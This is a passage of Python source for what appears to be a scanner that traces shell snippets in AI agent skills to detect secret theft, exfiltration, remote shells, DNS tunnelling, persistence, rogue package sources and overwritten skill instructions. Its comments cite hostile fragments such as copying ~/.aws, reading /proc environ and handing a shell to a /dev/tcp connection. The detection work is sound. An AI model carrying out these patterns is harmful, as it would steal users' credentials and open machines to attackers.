    def dispatch(self, command: list[Value], stdin: Value, line: int) -> Value:
        """A command given as words to another (``claude mcp add db -- npx -y …``), handled as if run."""
        command = _unwrapped(command)
        if not command:
            return UNKNOWN
        name = vocabulary.command_name(command[0].text or "")
        rest = command[1:]
        texts = [a.text for a in rest]
        handler = _HANDLERS.get(name)
        if handler is not None:
            ran: Value = handler(self, name, rest, texts, stdin, line, [])
            return ran
        return self.generic(name, rest, texts, stdin, line)

    def hub_model(self, texts: list[str | None], line: int) -> None:
        """A command that serves or evaluates a model with its repository's code trusted (``vllm serve
        org/m --trust-remote-code``): that code runs here, judged as the Python call would be."""
        named, word = hub.command_model(texts)
        repo = hub.repository(word)
        if not named or (word is not None and "$" not in word and repo is None):
            return  # no model named, or a local checkpoint folder
        pins = ("--revision", "--code-revision")
        revision = next((texts[i + 1] for i, t in enumerate(texts[:-1]) if t in pins), None)
        fetched = hub.downloaded(self.out, line, repo, revision)
        self.out.executes(line, Value(None, (fetched,)), f"runs it ({word or 'the model'} with --trust-remote-code)")

    def container_secrets(self, args: list[Value], texts: list[str | None], line: int) -> None:
        """A secret store mounted into a container: the image's code reads it (and its registry is named)."""
        mounted: list[Origin] = []
        for index, text in enumerate(texts):
            spec = texts[index + 1] if text in ("-v", "--volume", "--mount") and index + 1 < len(texts) else None
            if text and text.startswith(("--volume=", "--mount=")):
                spec = text.split("=", 1)[1]
            if spec:
                origin = self.out.secret_read(line, _mount_source(spec), "mounts")
                if origin is not None:
                    mounted.append(origin)
        if not mounted:
            return
        image = next((t for t in texts[1:] if t and not t.startswith("-") and (":" in t or "/" in t) and "=" not in t
                      and not t.startswith(("~", "/", "$", "."))), None)  # fmt: skip
        host = image.split("/", 1)[0] if image and "/" in image else ""
        if (
            host
            and ("." in host or ":" in host)
            and host not in ("docker.io", "ghcr.io", "mcr.microsoft.com", "gcr.io")
        ):
            self.out.egress(line, host, Value(None, tuple(mounted)), "hands")

    def fetched_operand(self, args: list[Value], texts: list[str | None], stdin: Value) -> bool:
        """Whether the command reads a download: on its standard input, as a file the snippet filled
        from one, or as an address."""
        if stdin.of(Source.FETCHED):
            return True
        for arg, text in zip(args, texts, strict=True):
            word = text if text is not None else arg.pattern
            if not word or (word.startswith("-") and "=" not in word):
                continue
            word = word.split("=", 1)[-1] if word.startswith("-") else word
            held = self.files.get(word)
            if vocabulary.urls(word) or (held is not None and held.of(Source.FETCHED)) or arg.of(Source.FETCHED):
                return True
        return False

    def fetched_reference(self, name: str, args: list[Value], texts: list[str | None], stdin: Value) -> bool:
        """Whether what a verifier checks against came from a download, so anyone who can change the
        file can change it too: a checksum list fetched beside the file, a key imported from a download
        or given as one. A digest written in the skill, or a key already trusted, is a real check."""
        if name.endswith("sum"):
            return self.fetched_operand(args, texts, stdin)
        if name == "cosign":
            keys = [texts[i + 1] for i, t in enumerate(texts[:-1]) if t == "--key"]
            keys += [(t or "").split("=", 1)[1] for t in texts if (t or "").startswith("--key=")]
            return any(k and (vocabulary.urls(k) or self.files.get(k) is not None) for k in keys) or self.downloaded_key
        return self.downloaded_key

    def host_given_to_an_unknown_image(self, texts: list[str | None], line: int) -> None:
        """An image from a registry nobody vetted, run with the host in its reach (privileged, the root
        folder, the home folder or the Docker socket mounted, the host's process table): code pulled
        at run time that can do anything the machine can, a download run by another name."""
        image = _container_image(texts)
        registry = image.split("/", 1)[0].lower() if image and "/" in image else ""
        if not ("." in registry or ":" in registry) or _known_registry(registry):
            return
        reach = _host_reach(texts)
        if reach is None or vocabulary.placeholder_host(registry) or vocabulary.documentation_domain(registry):
            return
        url = f"https://{image}"
        self.out.executes(line, Value(None, (self.out.fetched(line, url),)), f"runs it with {reach} ({texts[0]})")

    def git(self, texts: list[str | None], line: int) -> None:
        """``git remote add`` remembers a remote; ``git push`` sends what the script wrote to its host,
        and what any step of the skill put into the repository pushed (``git -C DIR push``, or the
        folder the script is in)."""
        repository = next((texts[i + 1] for i, t in enumerate(texts[:-1]) if t == "-C"), None)
        if repository is not None:
            texts = [t for i, t in enumerate(texts) if not (i > 0 and texts[i - 1] == "-C") and t != "-C"]
        words = [t for t in texts if t is not None and not t.startswith("-")]
        if len(words) >= 4 and words[0] == "remote" and words[1] in ("add", "set-url"):
            self.remotes[words[2]] = words[3]
            return
        if words and words[0] == "push":
            url, host = pushed_to(words, self.remotes)
            if host is None or host in ("github.com", "gitlab.com", "bitbucket.org"):
                return
            whole = _whole_repository(texts)
            if whole and outside_remote(url, host):
                what = "the whole repository"
                evidence = self.out.at(line, f"takes {what}, every branch and its history ({whole})")
                self.out.emit(Kind.SECRET_READ, what, evidence)
                self.out.egress(line, host, Value(None, (Origin(Source.SECRET, what, evidence),)), "pushes")
                return
            folder = repository or self.cwd
            inside = self.files.under(vocabulary.home_path(folder)) if folder and "*" not in folder else ()
            written = merged(*(value.origins for value in self.files.values()), inside)
            if written:
                self.out.egress(line, host, Value(None, written), "pushes")

    def credential_helper(self, helper: str, line: int, shaped: str = "") -> None:
        """git hands its credential helper every username and password it needs, on stdin: a helper
        the skill writes or bundles (``git-credential-<name>``, a path, ``!shell``) is read with that
        on its standard input, so one that forwards what it is given sends the credentials."""
        if self.depth >= MAX_DEPTH:
            return
        shown = shaped if "?" in helper and shaped else helper
        evidence = self.out.at(
            line, f"makes {shown} git's credential helper (handed every git username and password on stdin)"
        )
        credentials = Value(None, (Origin(Source.SECRET, "git credentials", evidence),))
        for word in shaped.lstrip("!").split():  # a bundled script that sends what it reads (python3 scripts/h.py)
            self.piped_into_script(word, credentials, line)
        if helper.startswith("!"):
            program: Value | None = Value(helper[1:])
        else:
            word = helper.split()[0] if helper.split() else ""
            path = word if "/" in word else ""
            name = PurePosixPath(word).name if path else f"git-credential-{word}"
            program = (self.files.get(path) if path else None) or self.files.named(name) or bundled_text(path or name)
        if program is None or program.text is None or not _NETWORK_WORDS.search(program.text):
            return
        inner = self.inner(dict(self.variables), self.depth + 1)
        inner.stdin = credentials
        inner.anchor = line  # the helper's lines are not this file's: what it does is shown where it is made the helper
        inner.statements(budget.parse(_parser(), _prepare(program.text)).root_node, inner.stdin)

    def found_in_unpacked(self, texts: list[str | None]) -> Value | None:
        """``find DIR -name x.sh`` over a folder a downloaded archive was unpacked into: the paths it
        prints are files of that download (``DIR/**/x.sh``), so a step running what it found
        (``sh "$(find …)"``) runs the download."""
        named = next((texts[i + 1] for i, t in enumerate(texts[:-1]) if t in ("-name", "-iname")), None) or "*"
        for folder in texts[: next((i for i, t in enumerate(texts) if (t or "-")[0] in "-(!"), len(texts))]:
            path = vocabulary.home_path(folder or "").rstrip("/") + "/**/" + named
            held = self.files.get(path) if folder else None
            if held is not None and held.of(Source.FETCHED):
                return Value(path)
        return None

    def find_exec(
        self, args: list[Value], texts: list[str | None], stdin: Value, line: int, found: list[Origin]
    ) -> Value:
        """``find … -name PATTERN -exec CMD {} ;``: CMD runs on each file found (a secret store's, say,
        or one the skill staged in the folder searched)."""
        named = "*"
        found.extend(o for p in _home_searches(texts) if (o := self.out.secret_read(line, p, "searches for")))
        for index, text in enumerate(texts[:-1]):
            if text in ("-name", "-iname", "-path", "-wholename", "-regex"):
                origin = self.out.secret_read(line, texts[index + 1] or "", "finds")
                if origin is not None:
                    found.append(origin)
                if text in ("-name", "-iname") and texts[index + 1]:
                    named = texts[index + 1] or "*"
        for folder in (t for t in texts[: next((i for i, t in enumerate(texts) if (t or "-")[0] in "-(!"), 0)]):
            staged = self.files.get(vocabulary.home_path(folder or "").rstrip("/") + "/**/" + named)
            if staged is not None:
                found.extend(staged.origins)
        start = next(i for i, t in enumerate(texts) if t in ("-exec", "-execdir", "-ok")) + 1
        end = next((i for i in range(start, len(texts)) if texts[i] in (";", "\\;", "+")), len(texts))
        command = [
            Value(a.text, merged(a.origins, tuple(found))) if "{}" in (a.text or "") else a for a in args[start:end]
        ]
        if not command:
            return UNKNOWN
        name = vocabulary.command_name(command[0].text or "")
        rest = command[1:]
        handler = _HANDLERS.get(name)
        if handler is not None:
            ran: Value = handler(self, name, rest, [a.text for a in rest], stdin, line, [])
            return ran
        return self.generic(name, rest, [a.text for a in rest], stdin, line)

    def reads(self, name: str, args: list[Value], line: int) -> list[Origin]:
        found: list[Origin] = []
        destinations: list[str] = []
        whole = [a for a in args if a.text is not None and " " in a.text.strip() and vocabulary.secret_store(a.text)]
        for arg in whole + [a for a in _split_words([a for a in args if a not in whole])]:
            text = arg.text
            if text is None and name in _COPIERS and arg.of(Source.SECRET):
                found.extend(arg.of(Source.SECRET))  # `cp -R "$HOME/$rel" …` for $rel read from a list of stores
                continue
            last = name in _PLAIN_COPIERS and arg.shape == args[-1].shape
            if text is None and name in _PLAIN_COPIERS and not last and _written_here(arg.shape, self.files):
                found.extend(self.files[arg.shape or ""].origins)  # `mv "$BIN.part" "$BIN"`: the file moves on
                continue
            if text is None and last and len(args) > 1 and _one_path(arg.shape or ""):
                destinations.append(arg.shape or "")  # … and `$BIN` (`*/.cache/tool`) holds what it held
                continue
            if text is None and name in _COPIERS and (_named_file(arg.shape) or _spelled_file(arg.shape)):
                destinations.append(arg.shape or "")  # `tar czf "$STAGE/s.tgz" …`: the archive, by the name it has
                continue
            if text is None and name in _COPIERS and _filled_folder(arg.shape, self.files):
                found.extend(self.files.under(arg.shape or ""))  # `tar … "out/run-$id"` once out/run-*/ was filled
                continue
            if text is None and name in _COPIERS and _folder_named_at_run_time(arg.shape):
                destinations.append(arg.shape or "")  # `cp -a … "$STAGE/$NAME/config/"`: filled under that spelling
                continue
            if text is None and name in _PLAIN_COPIERS and arg.shape == args[-1].shape and _named_in_folder(arg.shape):
                destinations.append(arg.shape or "")  # `cp "$f" "$SNAP/cfg_$(basename "$f")"`: a file in that folder
                continue
            if text is None and _written_here(arg.shape, self.files):
                found.extend(self.files[arg.shape or ""].origins)  # `cat /tmp/.job-$1` after `… > /tmp/.job-$1`
                continue
            if text is None and vocabulary.process_environment(arg.shape):
                found.append(self.out.env_dump(line, arg.shape or ""))  # `cat "/proc/$pid/environ"`
                continue
            if not text or (text.startswith("-") and "/" not in text and "~" not in text):
                continue
            candidates = [text]
            if "=" in text:
                candidates.append(text.split("=", 1)[1])
            if text.startswith("@"):
                candidates.append(text[1:])
            for candidate in candidates:
                origin = self.out.secret_read(line, candidate, "reads" if name not in _COPIERS else "copies")
                if origin is not None:
                    found.append(origin)
                    if name in _COPIERS and _outside_home(candidate):
                        destinations.append(candidate)  # `cp -a ~/.aws ./stage/.aws`: the copy keeps the store's name
                    break
            else:
                if vocabulary.process_environment(text):
                    found.append(self.out.env_dump(line, text))
                elif text in self.files and self.files[text].origins:
                    found.extend(self.files[text].origins)
                    if name in _COPIERS:  # a folder under an unpacked one, filled too: the copy holds both
                        found.extend(self.files.under(text))
                elif self.in_folder_entered(text) is not None:
                    found.extend(self.files[self.in_folder_entered(text) or ""].origins)  # `cd "$tmp"; cat sum`
                elif name in _COPIERS and self.files.under(text):
                    found.extend(self.files.under(text))  # tar/zip/cp -r of a folder other steps filled
                elif name in _COPIERS and self.cwd and not text.startswith(("/", "~", "$")):
                    inside = f"{self.cwd}/{text}".removesuffix("/.").removesuffix("/*").replace("/./", "/")
                    found.extend(self.files.under(inside))  # cd ~/.cache/stage && zip -r /tmp/s.zip .
                    destinations.append(text)
                else:
                    destinations.append(text)
        if found and name in _COPIERS:
            for target in destinations:
                where = _above_folder(self.cwd, target)
                earlier = self.files.get(where, UNKNOWN).origins if "*" in where else ()
                # a name made at run time (`cfg_$(basename "$f")` in a loop) is a file per run, all kept
                self.files[where] = Value(None, merged(earlier, tuple(found)))
        return found

    def in_folder_entered(self, relative: str) -> str | None:
        """The path of a file this snippet wrote that a relative name reads after a ``cd`` into its
        folder (``curl -o "$tmp/sum" …; cd "$tmp"; cat sum``), or ``None``."""
        if not self.cwd or relative.startswith(("/", "~", "$", "-")):
            return None
        inside = f"{self.cwd}/{relative.removeprefix('./')}"
        return inside if inside in self.files and self.files[inside].origins else None

    def read_file(self, node: Node, target: Value, verb: str) -> Value:
        if vocabulary.process_environment(target.pattern):  # `< "/proc/$pid/environ"`: that process's environment
            return Value(None, (self.out.env_dump(self.line(node), target.pattern or ""),))
        if target.text is None:
            # `cat /tmp/.job-$1` after `… > /tmp/.job-$1`: the same spelling names the same file
            if target.shape and target.shape in self.files:
                return self.files[target.shape]
            return self.bundled_list(node, target.shape) if target.shape else UNKNOWN
        if target.text in self.files:
            return self.files[target.text]
        inside = self.in_folder_entered(target.text)
        if inside is not None:  # `cd "$tmp"; … < sum`: the file written there
            return self.files[inside]
        listed = self.bundled_list(node, target.text)
        if listed is not UNKNOWN:
            return listed
        origin = self.out.secret_read(self.line(node), target.text, verb)
        return Value(None, (origin,)) if origin else UNKNOWN

    def bundled_list(self, node: Node, path: str) -> Value:
        """A bundled list the script reads line by line (``while read -r p; do …; done < "$DIR/x.list"``):
        its text, holding the secret stores it names when the script copies what it reads. A file of
        any name fed to a ``while read`` loop is such a list: the loop reads it as lines, whatever it is called."""
        statement = node.parent if node.type == "file_redirect" else node
        looped = statement is not None and statement.type == "redirected_statement" and _read_loop_body(statement)
        listed = bundled_text(path) if looped or path.lower().endswith(DATA_SUFFIXES) else None
        if listed is None or listed.text is None:
            return UNKNOWN
        stores = self.listed_stores("read", [Value(path)], self.line(node))
        return Value(listed.text[:65536], merged(tuple(stores)))

    def write(self, redirect: Node, output: Value, body: Node) -> None:
        operator = _operator(redirect)
        destination = _destination(redirect)
        if destination is not None and destination.type == "process_substitution":
            self.inner(self.variables, self.depth).statements(destination, output)  # `> >(bash)`: read as its stdin
            return
        target = self.redirect_target(redirect, destination)
        line = self.line(redirect)
        text = target.pattern or ""
        if operator in (">&", "&>", ">") and (text.isdigit() or text in self.sockets):
            host = self.sockets.get(text)
            if host is not None:
                self.out.egress(line, host, output, "sends")
            return
        socket = _dev_tcp(text)
        if socket is not None:
            host, port = socket
            evidence = self.out.at(line, f"opens a raw connection to {host}:{port}")
            body_text = (body.text or b"").decode("utf-8", "replace")
            if not vocabulary.is_loopback_host(host):
                # a connection to this machine (`exec 3<>/dev/tcp/127.0.0.1/8765`: is a local service up?)
                # reaches no one else; a shell handed to it, or data sent through it, is still reported
                self.out.emit(Kind.RAW_SOCKET, f"{host}:{port}", evidence)
            descriptor = next((c for c in redirect.named_children if c.type == "file_descriptor"), None)
            named = re.match(r"^\s*exec\s+\{([A-Za-z_]\w*)\}", body_text)
            if descriptor is not None and re.match(r"^\s*exec\b", body_text) and descriptor.text:
                self.sockets[descriptor.text.decode()] = host
            elif named is not None:
                # `exec {fd}<>/dev/tcp/h/p`: bash picks the descriptor and puts its number in $fd
                marker = "{" + named.group(1) + "}"
                self.variables[named.group(1)] = Value(marker)
                self.sockets[marker] = host
            elif re.search(r"\b(?:ba|z|k)?sh\b(?:\s+-i)?", body_text) or self.starts_a_shell(body):
                self.out.emit(
                    Kind.RAW_SOCKET, f"{host}:{port} (remote shell)",
                    evidence, self.out.at(line, "hands a shell to that connection"),
                )  # fmt: skip
            else:
                self.out.egress(line, host, output, "sends")
            return
        if not text or text.startswith("/dev/"):
            return
        if output.origins or output.text is not None:
            previous = self.files.get(text) if operator == ">>" else None
            self.files[text] = joined([previous, output]) if previous is not None else output
            if output.origins and self.entered and not text.startswith(("/", "~", "*", "$")):
                self.files[f"{self.entered}/{text}"] = self.files[text]  # the same file, by the folder's path
            if operator == ">" and output.text is not None:
                copies.written(text, output.text, self.out, line)
        elif output.shape and "\n" in output.shape and operator == ">":
            self.scripts_written[text] = (output.shape, line)
            self.files[text] = output  # a list of paths with one known only at run time names the others
        elif output.shape and operator == ">" and _one_path(output.shape):
            # `echo "$name" > release/LATEST`, name="release/r-$(date +%F).zip": the file names the
            # archive of this run for the step that reads it back (`curl -F f=@"$(cat release/LATEST)"`)
            self.files[text] = Value(None, shape=output.shape.strip())
        label = vocabulary.persistence_target(text)
        if label is not None:
            self.persist(line, label, text, output.text or "", output)
        self.tool_config(line, text, output)
        self.system_sources(line, text, output)

    def starts_a_shell(self, body: Node) -> bool:
        """Whether the command ``body`` is a shell by the name its first word holds (``"$sh_" -i``
        with ``sh_="/bin/b""ash"``)."""
        name = body.child_by_field_name("name") if body.type == "command" else None
        if name is None or not name.named_children:
            return False
        return vocabulary.command_name(self.value(name.named_children[0]).text or "") in _POSIX_SHELLS

    def redirect_target(self, redirect: Node, destination: Node | None) -> Value:
        """The path a redirect opens. tree-sitter-bash does not know ``<>`` and can cut an unquoted
        path after it at a ``$`` (``5<>/dev/$p/$h/$n`` comes out as ``/dev/$p/$`` and ``h/$n``); bash
        reads the pieces that touch as one word."""
        if destination is None:
            return self.value(destination)
        pieces = [destination]
        for sibling in redirect.named_children:
            if sibling.start_byte == pieces[-1].end_byte and sibling.type in _WORD_NODES:
                pieces.append(sibling)
        return self.glued(pieces) if len(pieces) > 1 else self.value(destination)

    def tool_config(self, line: int, path: str, written: Value) -> None:
        """A package manager's or CLI's configuration written: the index it installs from, or a mirror its
        downloads come from (Terraform's provider_installation, cargo's replaced sources, Docker's
        registry mirrors), whose code is run."""
        lowered = path.lower()
        if lowered.endswith(packages.INDEX_CONFIGS):
            for url, unverified in packages.written_indexes(path, written.text, written.pattern):
                self.index(line, url, unverified=unverified)
        elif lowered.endswith(_TOOL_MIRROR_CONFIGS):
            for url in vocabulary.urls(written.pattern or ""):
                self.mirror(line, f"a mirror in {path.rsplit('/', 1)[-1]}", url)

    def system_sources(self, line: int, path: str, written: Value) -> None:
        """A package source written for the system's package manager (an apt list, a yum/dnf repo, apk's
        repositories): what it installs from there runs as root."""
        if not _SYSTEM_SOURCE_FILES.search(path):
            return
        content = written.pattern or ""
        checks_off = _APT_CHECKS_OFF.search(content)
        unsigned = checks_off.group(0) if checks_off is not None else None
        apt = "/etc/apt/" in path
        for url in vocabulary.urls(content):
            if apt and not unsigned and packages.trusted_host(re.sub(r"(?i)^http://", "https://", url)) is None:
                # apt takes nothing from a source whose Release file the keyring does not sign, over
                # any transport (the distributions' own mirrors are plain http): the host is judged, not http
                continue
            self.package_source(line, url, f"adds the package source {url} ({path})", unsigned)

    def package_source(
        self, line: int, url: str, what: str, unsigned: str | None = None, unknown_recipes: bool = False
    ) -> None:
        """A source a system or tool package manager installs from. Vendors' own HTTPS repositories are
        normal (Docker's, NodeSource's, a Helm chart host); plain http, a bare IP, a look-alike, a
        source whose signatures are switched off (``unsigned``: the flag that does it), or a git
        repository of install recipes (a Homebrew tap, a Scoop bucket) outside the public code hosts is not."""
        if unsigned or unknown_recipes or packages.trusted_host(url) is not None:
            chain = [self.out.at(line, what)]
            if unsigned:
                chain.append(self.out.at(line, f"{packages.UNSIGNED} ({unsigned})"))
            self.out.emit(Kind.INSTALL_INDEX, url, *chain)

    def persist(self, line: int, label: str, path: str, content: str, value: Value) -> None:
        content = content or value.pattern or ""
        """A write to a place that runs later; harmless start-up lines (PATH, aliases, ``eval "$(x init)"``) pass."""
        shell_rc = "start-up" in label
        written = f"writes {label} ({path})" + (f": {shown_line(content)}" if content.strip() else "")
        placed = copies.started(content, path, self.out.at(line, written)) or copies.entry_opens(
            content, label, self.out.at(line, written)
        )
        if placed is not None:  # `source ~/.local/share/x/init.sh` where the skill put one of its scripts
            self.out.emit(Kind.PERSISTENCE, f"{label}: {path} (runs code)", *placed)
            return
        loaded = self.loaded_payload(content)
        sourced = self.sourced_script(content) if loaded is None else None
        if loaded is not None:  # `. ~/.cache/t/init.sh` where the skill downloaded that file: runs it
            value = Value(value.text, merged(value.origins, loaded.origins), value.shape)
        elif shell_rc and sourced is None and only_set_up_lines(content):
            return
        # `. ~/.local/x/hook.sh` where the skill wrote that script: the start-up file runs its text
        whole = f"{content}\n{sourced[0]}" if sourced is not None else content
        judged = unexplained_start_up_lines(whole) if shell_rc else whole
        running = runs_code(judged, label) or bool(value.of(Source.FETCHED) or value.of(Source.DECODED))
        detail = f"{label}: {path}" + (" (runs code)" if running else "")
        chain = [o.evidence for o in value.origins if o.source in (Source.FETCHED, Source.DECODED)]
        if sourced is not None and sourced[2] is not None and running:
            chain.append(self.out.at(sourced[2], f"writes the script {sourced[1]}: {shown_line(sourced[0])}"))
        shown = f": {shown_line(content)}" if content.strip() else ""
        kept = bundled_line(shown_line(content), self.out.snippet.rel) if running else None
        if kept is not None:
            with self.out.placed_in(kept[0]):
                chain.append(self.out.at(kept[1], f"holds what is written to {label}{shown}"))
        self.out.emit(Kind.PERSISTENCE, detail, *chain, self.out.at(line, f"writes {label} ({path}){shown}"))

    def sourced_script(self, content: str) -> tuple[str, str, int | None] | None:
        """The text of a script the skill wrote (a here-document, an ``echo`` into a file) that a line
        for a start-up file sources or runs, its path and the line that wrote it when this snippet did:
        the start-up file runs that text as if it held it, so it is judged as written there."""
        for written in _LOADED_FILE.findall(content):
            path = vocabulary.home_path(written.strip("\"'"))
            if path in ("", "/"):
                continue
            if path in self.scripts_written:
                text, line = self.scripts_written[path]
                return text, path, line
            held = self.files.get(path)
            if held is not None and held.pattern and "\n" in held.pattern.strip():
                return held.pattern, path, None
        return None

    def loaded_payload(self, content: str) -> Value | None:
        """What a line written to a start-up file sources or runs (``. ~/.cache/t/init.sh``), when
        the skill downloaded or decoded that file, in this snippet or another."""
        for written in _LOADED_FILE.findall(content):
            path = vocabulary.home_path(written)
            held = self.files.get(path) if path not in ("", "/") else None
            if held is not None and (held.of(Source.FETCHED) or held.of(Source.DECODED)):
                return held
        return None

    def package_manager_config(self, name: str, texts: list[str | None], line: int) -> None:
        """``npm config set node-options ...``: options every node process it starts loads (``--require``)."""
        words = [t or "?" for t in texts if not (t or "").startswith("--location") and t not in ("-g", "--global")]
        key, _, inline = words[0].partition("=")
        if key.lower().replace("_", "-") != "node-options":
            return
        value = inline or " ".join(words[1:])
        running = runs_code(value)
        self.out.emit(
            Kind.PERSISTENCE,
            f"{name}'s node-options (loaded by every node process it starts)" + (" (runs code)" if running else ""),
            self.out.at(line, f"sets {key} = {value}"),
        )

    def index(
        self,
        line: int,
        url: str,
        public: tuple[str, ...] = (),
        unverified: str | None = None,
        set_at: int | None = None,
        unowned: tuple[str, ...] = (),
    ) -> None:
        """An install through ``url`` when it is not a public index; ``public`` are the registry's own
        popular names the same command installs, which that index can then serve its own builds of;
        ``unverified`` the setting that turns its certificate checks off (set on line ``set_at``);
        ``unowned`` the names it takes beside the registry none of which is the index's own
        (:func:`packages.unowned_names`)."""
        url = _index_address(url)
        if packages.known_index(url):
            return
        chain = [self.out.at(line, f"installs packages from the index {url}")]
        if unverified is not None:
            chain.append(self.out.at(set_at or line, f"{packages.UNVERIFIED} ({unverified})"))
        if public:
            shown = ", ".join(public)
            chain.append(self.out.at(line, f"{packages.SHADOWED} {shown}: the index can serve its own build of them"))
        if unowned:
            shown = ", ".join(unowned[:6])
            chain.append(self.out.at(line, f"{packages.UNOWNED} {shown}, beside the registry"))
        self.out.emit(Kind.INSTALL_INDEX, url, *chain)

    def configured_index(self, settings: list[str | None], line: int) -> None:
        """``npm config set registry URL``, ``pip config set global.index-url URL``: every later install
        comes from that index. ``… strict-ssl false``, ``… global.trusted-host HOST`` turn its
        certificate checks off, in either order: whoever is on the network path serves the packages."""
        words = [t for t in settings if not (t or "").startswith("-")]  # -g, --location=user
        if not words:
            return
        key, equals, inline = (words[0] or "?").partition("=")
        value = inline if equals else " ".join(t or "?" for t in words[1:2]) or "?"
        key = key.lower().rsplit(".", 1)[-1].replace("_", "-")  # global.index-url, npmRegistryServer
        if key in ("registry", "index-url", "extra-index-url", "npmregistryserver") or key.endswith(":registry"):
            self.index_settings["index"] = (line, value)
        elif (key in ("strict-ssl", "enablestrictssl") and value.lower() == "false") or key == "trusted-host":
            self.index_settings["unverified"] = (line, f"{words[0]} {value}" if not equals else words[0] or "")
            if key == "trusted-host" and "index" not in self.index_settings:
                if not packages.known_registry_host(f"https://{value}"):
                    self.index(line, f"http://{value}")  # as `--trusted-host HOST`: plain http is accepted from it
                return
        else:
            return
        index = self.index_settings.get("index")
        if index is None:
            return
        unverified = self.index_settings.get("unverified")
        set_at, setting = unverified if unverified is not None else (None, None)
        self.index(index[0], index[1], unverified=setting, set_at=set_at)

    def replaces_instructions(self, line: int, destination: str, fetched: tuple[Origin, ...]) -> None:
        """Downloaded text written over a SKILL.md: the agent's instructions are whatever the server sends next."""
        self.out.emit(
            Kind.REMOTE_INSTRUCTIONS, fetched[0].detail,
            fetched[0].evidence, self.out.at(line, f"replaces the skill's own instructions ({destination}) with it"),
        )  # fmt: skip

    def mirror(self, line: int, variable: str, url: str) -> None:
        """A tool's own binaries (browsers, Node, Electron, toolchains) fetched from where ``variable`` says:
        the tool downloads and runs them, so a mirror on plain http, a bare IP or a look-alike is an
        untrusted source for code; a named HTTPS mirror (a company's, a country's) is taken as one."""
        why = packages.trusted_host(url)
        if why is not None:
            self.out.emit(
                Kind.INSTALL_INDEX, url,
                self.out.at(line, f"sets {variable}: the tool downloads and runs its binaries from {url}"),
            )  # fmt: skip

    def dns(self, name: str, args: list[Value], stdin: Value, line: int) -> None:
        """A lookup whose name carries data the skill read (or the user's and machine's names under
        someone's zone: a beacon)."""
        for arg in args:
            text = arg.text
            if text is not None and "{}" in text:
                arg = Value(text, stdin.origins)
            if not arg.origins:
                continue
            shown = (arg.pattern or "?").replace("{}", "<data>")
            labels_only = all(o.source in (Source.IDENTITY, Source.ENCODED) for o in arg.origins)
            if labels_only and not _beacon_zone(shown):
                continue  # nslookup $HOSTNAME checks this machine's own name
            evidence = [
                o.evidence
                for o in arg.origins
                if o.source in (Source.SECRET, Source.ENV, Source.TOKEN, Source.IDENTITY, Source.ENCODED)
            ]
            self.out.emit(
                Kind.DNS_TUNNEL, shown, *evidence, self.out.at(line, f"puts data into a DNS lookup ({name} {shown})")
            )
            return

    def xargs(self, args: list[Value], texts: list[str | None], stdin: Value, line: int) -> Value:
        index = 0
        while index < len(texts) and (texts[index] or "").startswith("-"):
            flag = texts[index] or ""
            index += 2 if flag in ("-I", "-n", "-P", "-d", "-L", "-s", "-E") else 1
        if index >= len(args):
            return UNKNOWN
        command = [
            Value(a.text, merged(a.origins, stdin.origins)) if a.text and "{}" in a.text else a for a in args[index:]
        ]
        name = vocabulary.command_name(command[0].text or "")
        if name in vocabulary.DNS_TOOLS:
            tainted = [Value(a.text, merged(a.origins, stdin.origins)) for a in command[1:]]
            if not any("{}" in (a.text or "") for a in command[1:]) and tainted:
                tainted[-1] = Value(tainted[-1].text, merged(tainted[-1].origins, stdin.origins))
            self.dns(
                name,
                [Value((a.text or "").replace("{}", "<data>"), a.origins) for a in tainted],
                UNKNOWN,
                line,
            )
            return UNKNOWN
        handler = _HANDLERS.get(name)
        rest = command[1:]
        if rest:
            rest[-1] = Value(rest[-1].text, merged(rest[-1].origins, stdin.origins))
        if handler is not None:
            ran: Value = handler(self, name, rest, [a.text for a in rest], stdin, line, [])
            return ran
        return self.generic(name, rest, [a.text for a in rest], stdin, line)

    # handlers -------------------------------------------------------------------------------------

    def download(
        self, name: str, args: list[Value], texts: list[str | None], stdin: Value, line: int, redirects: list[Node]
    ) -> Value:
        if name == "bitsadmin" and not any(vocabulary.urls(t or "") for t in texts):
            return UNKNOWN  # bitsadmin /list, /reset: managing jobs downloads nothing
        urls: list[str] = []
        data: list[Value] = []
        body: list[Value] = []  # what goes as the request's content, not in a header
        output_file: str | None = None
        method = ""
        index = 0
        placeholders = 0
        while index < len(args):
            text = texts[index] or args[index].pattern or ""
            arg = args[index]
            refanged = vocabulary.refanged(text) if texts[index] is not None else None
            if texts[index] is not None and (
                vocabulary.elided(text)
                or re.fullmatch(r"<[\w.:/-]+>", text)
                or (refanged is not None and self.out.snippet.presentation is not Presentation.STEP)
            ):
                # `curl ... | sh`, `curl <url> | sh` in prose about the pattern: no address at all; a defanged
                # address in code a machine runs (a script, a hook) fetches nothing as written
                placeholders += 1
                index += 1
                continue
            if refanged is not None:
                text = refanged  # a step an agent reads: `hxxps://host[.]tld/x` is the address it stands for
            if name in ("certutil", "bitsadmin") and urls and not re.fullmatch(r"[-/][A-Za-z]+", text):
                output_file = text or "?"  # the file named after the URL (/tmp/x.exe is a path, /priority a switch)
                index += 1
                continue
            flag, _, inline = text.partition("=") if text.startswith("--") else (text, "", "")
            clustered = f"-{flag[-1]}" if re.fullmatch(r"-[a-ce-zA-Z][a-zA-Z]+", flag) else ""
            if clustered in _UPLOAD_FLAGS and index + 1 < len(args):  # -sT file: the last letter takes the value
                data.append(self.upload_value(args[index + 1], stdin, line, clustered))
                body.append(data[-1])
                index += 2
                continue
            if flag in _UPLOAD_FLAGS or (flag.startswith("-d") and len(flag) > 2 and not flag.startswith("--")):
                value = (
                    args[index + 1] if not inline and index + 1 < len(args) else Value(inline or text[2:], arg.origins)
                )
                data.append(self.upload_value(value, stdin, line, flag))
                body.append(data[-1])
                index += 1 if inline or (flag.startswith("-d") and len(flag) > 2) else 2
                continue
            if name == "curl" and re.fullmatch(r"-[a-zA-Z]*O|--remote-name", flag):
                index += 1  # curl's -O (alone or ending a cluster, -fsSLO) names the file after the URL: no value
                continue
            if flag in _OUTPUT_FLAGS or (re.fullmatch(r"-[a-zA-Z]*[oO]", flag) and flag not in _VALUE_FLAGS):
                # a path with an unknown part ("$tmp/s.tgz") is kept as its pattern, as later commands name it
                following = (texts[index + 1] or args[index + 1].pattern) if index + 1 < len(texts) else None
                target = inline or following
                output_file = target if target is not None else "?"
                index += 1 if inline else 2
                continue
            if flag in ("-X", "--request", "-Method", "-method"):
                method = (texts[index + 1] or "").upper() if index + 1 < len(texts) else ""
                index += 2
                continue
            if flag in _VALUE_FLAGS:
                if inline and arg.origins:  # --header="X-Id: $tok": the value is in this word
                    data.append(arg)
